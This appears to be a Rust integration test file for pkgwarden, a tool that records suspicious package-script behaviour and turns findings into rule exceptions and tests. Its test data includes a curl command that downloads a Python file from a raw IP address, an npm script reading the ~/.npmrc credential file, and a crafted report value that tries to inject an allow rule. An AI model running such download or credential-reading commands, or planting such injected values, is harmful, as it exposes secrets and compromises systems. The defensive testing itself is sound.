//! From a recorded finding to an exception or a test, and back to the recording: with the program itself.

use std::path::Path;
use std::process::{Command, Output};

const RECORDED: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/src/report/tests/recorded.jsonl");

fn pkgwarden(words: &[&str]) -> Output {
    let mut command = Command::new(env!("CARGO_BIN_EXE_pkgwarden"));
    command.env_clear().env("HOME", "/nonexistent").args(words).output().unwrap()
}

fn told(output: &Output) -> (String, String) {
    (String::from_utf8(output.stdout.clone()).unwrap(), String::from_utf8(output.stderr.clone()).unwrap())
}

/// An exception in a folder of its own.
fn exception(finding: &str, folder: &Path) -> String {
    let to = folder.join("exception.yaml");
    let made = pkgwarden(&[
        "rules",
        "allow",
        finding,
        "--from",
        RECORDED,
        "--reason",
        "a test",
        "--to",
        to.to_str().unwrap(),
    ]);
    assert!(made.status.success(), "{}", told(&made).1);
    std::fs::read_to_string(to).unwrap()
}

#[test]
fn an_exception_allows_what_was_found_and_nothing_else() {
    for (finding, allowed, line) in [
        ("F2", 1, "    commands: [\"curl -sf -o undefined/ld.py http://203.0.113.7:8000/ld.py\"]"),
        ("F3", 2, "object: npmrc }"),
    ] {
        let folder = tempfile::tempdir().unwrap();
        let yaml = exception(finding, folder.path());
        assert!(yaml.contains(line), "{yaml}");
        assert!(yaml.contains("why: \"a test (finding "), "{yaml}");
        let folder = folder.path().to_str().unwrap();
        let tested = pkgwarden(&["rules", "test", "--rules", folder]);
        assert!(tested.status.success() && yaml.contains("tests:"), "{}{yaml}", told(&tested).0);
        let replayed =
            pkgwarden(&["replay", RECORDED, "--rules", folder, "--home", "/tmp/demo/home", "--json"]);
        assert_eq!(replayed.status.code(), Some(120));
        let json: serde_json::Value = serde_json::from_slice(&replayed.stdout).unwrap();
        assert_eq!(json["counts"]["now-allowed"], allowed, "{}", told(&replayed).0);
        assert_eq!(json["counts"]["same"], 4 - allowed, "{}", told(&replayed).0);
    }
}

#[test]
fn a_finding_becomes_a_test_of_its_rule() {
    let made = pkgwarden(&["rules", "allow", "F3", "--from", RECORDED, "--as", "test"]);
    let line = "- { given: { actor: \"script:npm\", does: read, path: \"~/.npmrc\" }, expect: deny }\n";
    assert!(told(&made).0.ends_with(line), "{:?}", told(&made));
}

#[test]
fn a_report_will_do_and_the_key_is_the_same() {
    let folder = tempfile::tempdir().unwrap();
    let report = folder.path().join("report.json");
    let json = pkgwarden(&["report", RECORDED, "--format", "json"]).stdout;
    std::fs::write(&report, &json).unwrap();
    let json: serde_json::Value = serde_json::from_slice(&json).unwrap();
    let key = json["findings"][1]["key"].as_str().unwrap();
    assert_eq!(key.len(), 10);
    let of = |from: &str| told(&pkgwarden(&["rules", "allow", key, "--from", from])).0;
    assert!(of(RECORDED).contains("commands: "), "{}", of(RECORDED));
    assert_eq!(of(RECORDED), of(report.to_str().unwrap()));
}

#[test]
fn what_cannot_be_done_is_said() {
    let folder = tempfile::tempdir().unwrap();
    exception("F1", folder.path());
    let to = folder.path().join("exception.yaml");
    let again = pkgwarden(&["rules", "allow", "F1", "--from", RECORDED, "--to", to.to_str().unwrap()]);
    assert_eq!(again.status.code(), Some(2));
    assert!(told(&again).1.contains("name a file that does not exist yet"), "{}", told(&again).1);
    let unknown = pkgwarden(&["rules", "allow", "0123456789", "--from", RECORDED]);
    assert!(told(&unknown).1.contains("has no finding `0123456789`; it has "), "{}", told(&unknown).1);
    // A report from elsewhere cannot write rules of its own.
    let json = String::from_utf8(pkgwarden(&["report", RECORDED, "--format", "json"]).stdout).unwrap();
    let report = folder.path().join("report.json");
    std::fs::write(&report, json.replace("\"cloud-metadata\"", "\"x }\\n    then: allow # \"")).unwrap();
    let hostile = pkgwarden(&["rules", "allow", "F1", "--from", report.to_str().unwrap()]);
    assert_eq!((hostile.status.code(), told(&hostile).0.as_str()), (Some(2), ""), "{}", told(&hostile).1);
}

#[test]
fn a_damaged_recording_is_replayed_as_far_as_it_goes() {
    let folder = tempfile::tempdir().unwrap();
    let path = folder.path().join("events.jsonl");
    let text = std::fs::read_to_string(RECORDED).unwrap();
    let lines: Vec<&str> = text.lines().collect();
    std::fs::write(&path, [&lines[..20], &["{"], &lines[20..30]].concat().join("\n")).unwrap();
    let replayed = pkgwarden(&["replay", path.to_str().unwrap()]);
    let (out, err) = told(&replayed);
    assert_eq!(replayed.status.code(), Some(2), "{out}{err}");
    assert!(err.contains("events.jsonl: line 21 is not an event: "), "{err}");
    assert!(out.contains("1 line could not be read") && out.contains("breaks off"), "{out}");
}
